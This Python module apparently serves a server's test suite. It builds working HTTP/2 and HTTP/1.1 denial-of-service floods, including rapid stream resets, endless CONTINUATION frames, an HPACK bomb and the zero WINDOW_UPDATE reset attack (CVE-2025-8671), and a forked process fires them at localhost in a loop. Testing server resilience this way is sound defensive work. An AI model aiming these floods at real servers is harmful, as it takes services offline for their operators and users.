# SPDX-License-Identifier: Apache-2.0
"""Frames of HTTP/2 that cost their sender little and a careless server much. Each kind is a generator of bytes behind
the preface that never ends."""
import multiprocessing
import socket
import time

from .http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, PRIORITY, RST_STREAM, SETTINGS,
                    WINDOW_UPDATE, fields, frame, head)


def endless_head():
    yield frame(HEADERS, 0, 1, fields((":method", "GET")))
    while True:
        yield frame(CONTINUATION, 0, 1, fields(("a", "b")))


def flood(piece):
    while True:
        yield piece * 100


def resets():
    stream = 1
    while True:
        out = b""
        for _ in range(50):
            out += head(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        yield out


def malformed():
    stream = 1
    while True:
        yield b"".join(head(stream + 2 * number, ("connection", "x")) for number in range(50))
        stream += 100


def empty_data():
    yield head(1, method="POST", ends=False)
    yield from flood(frame(DATA, 0, 1))


def bombs():
    # One entry of 3900 bytes in the table, then named over and over by one byte.
    big = b"\x40" + b"\x01a" + b"\x7f" + bytes([0x80 + (3900 - 127) % 128, (3900 - 127) // 128]) + b"b" * 3900
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, fields((":method", "GET"), (":scheme", "http"), (":path", "/"),
                                                             (":authority", "localhost")) + big)
    stream = 3
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16000)
        stream += 2


def made_you_reset():
    """The server is made to reset the streams itself: a WINDOW_UPDATE of nothing (CVE-2025-8671)."""
    stream = 1
    while True:
        out = b""
        for _ in range(50):
            out += head(stream) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
            stream += 2
        yield out


FLOODS = {
    "made_you_reset": made_you_reset,
    "reset": resets, "malformed": malformed, "continuation": endless_head, "empty_data": empty_data, "hpack": bombs,
    "settings": lambda: flood(frame(SETTINGS)), "ping": lambda: flood(frame(PING, 0, 0, b"12345678")),
    "priority": lambda: flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "window": lambda: flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "ack": lambda: flood(frame(SETTINGS, ACK)),
}


# -- of HTTP/1

def endless_fields():
    yield b"GET / HTTP/1.1\r\nHost: x\r\n"
    while True:
        yield b"A: b\r\n" * 100


def tiny_chunks():
    yield b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    while True:
        yield b"1\r\nx\r\n" * 100


def pipeline():
    while True:
        yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100


H1_FLOODS = {"fields": endless_fields, "chunks": tiny_chunks, "pipeline": pipeline}


class Attack:
    """A process that floods over and over, on a new connection whenever one has been ended, until the block ends.
    `connections` tells how many there were."""

    def __init__(self, port, kind):
        self._count = multiprocessing.Value("L", 0)
        self._process = multiprocessing.get_context("fork").Process(target=_attack, args=(port, kind, self._count),
                                                                    daemon=True)

    def __enter__(self):
        self._process.start()
        return self

    def __exit__(self, *_):
        self._process.kill()
        self._process.join()

    @property
    def connections(self):
        return self._count.value


def _attack(port, kind, count):
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                count.value += 1
                sock.settimeout(0.5)
                if kind in FLOODS:
                    sock.sendall(HELLO)
                for piece in (FLOODS.get(kind) or H1_FLOODS[kind])():
                    sock.sendall(piece)
        except OSError:
            time.sleep(0.001)  # ended, as it should
